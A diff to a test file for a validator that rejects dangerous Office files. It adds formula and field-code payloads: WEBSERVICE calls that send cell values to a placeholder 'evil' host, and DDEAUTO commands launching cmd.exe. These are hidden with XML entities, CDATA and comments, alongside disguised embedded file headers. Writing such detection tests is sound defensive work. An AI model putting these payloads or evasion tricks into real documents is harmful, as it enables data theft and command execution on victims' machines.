@@ -82,8 +82,18 @@ test('a workbook that names other files, addresses or programs is refused, as a 
     '_xlfn.WEBSERVICE("http://evil/"&amp;A2)',
     '_xlfn.IMAGE ("http://evil/")',
     'CALL("a")',
+    '_xlfn.WEBSERVIC&#69;("http://evil/?"&amp;A1)',
+    'WEBSERVICE&#x28;"http://evil/")',
+    'WEBSER<![CDATA[VICE(]]>"http://evil/")',
   ])
     expect(await found(cell(formula)), formula).toBe('type')
+  const sheet = (inner: string) =>
+    found(workbook({ 'xl/worksheets/sheet2.xml': `<worksheet>${inner}</worksheet>` }))
+  for (const name of ['definedName', 'formula', 'formula1', 'formula2', 'calculatedColumnFormula']) {
+    expect(await sheet(`<${name}>SUM(A1:A4)&gt;3</${name}>`), name).toBe('xlsx')
+    expect(await sheet(`<${name}>WEBSERVICE("http://evil")</${name}>`), name).toBe('type')
+    expect(await sheet(`<x:${name}>WEBSERVIC&#69;("http://evil")</x:${name}>`), name).toBe('type')
+  }
 })
 
 test('a part that is another file is refused whatever it is called', async () => {
@@ -94,6 +104,11 @@ test('a part that is another file is refused whatever it is called', async () =>
     'a.class': Buffer.from([0xca, 0xfe, 0xba, 0xbe]),
     'docProps/thumbnail.jpeg': 'PK\x03\x04',
     'word/a.dat': '{\\rtf1 {\\object}}',
+    'word/media/image2.emf': '%!PS-Adobe',
+    'word/media/image3.emf': 'MSCF\0\0',
+    'word/media/image4.emf': 'L\0\0\0\x01\x14\x02\0\0',
+    'word\\embeddings\\a.bin': 'x',
+    'word\\externalLinks\\a.xml': '<x/>',
     'customUI/customUI.xml': '<customUI onLoad="x"/>',
   }))
     expect(await found(letter({ [name]: start })), name).toBe('type')
@@ -106,6 +121,9 @@ test('a letter with a field that loads something, or starts a program, is refuse
     ['DDEAUTO c:\\\\cmd.exe "/k"'],
     ['DDE', 'AUTO c:\\\\cmd.exe'],
     [' INCLUDEPICTURE "http://evil/x.png"'],
+    ['DD&#69;AUTO c:\\\\cmd.exe'],
+    ['INCLUDE&#x50;', 'ICTURE "http://evil/x.png"'],
+    ['DD<!-- -->EAUTO c:\\\\cmd.exe'],
   ])
     expect(await found(letter(written(...pieces))), pieces[0]).toBe('type')
   const simple = '<w:document><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe x "/></w:document>'
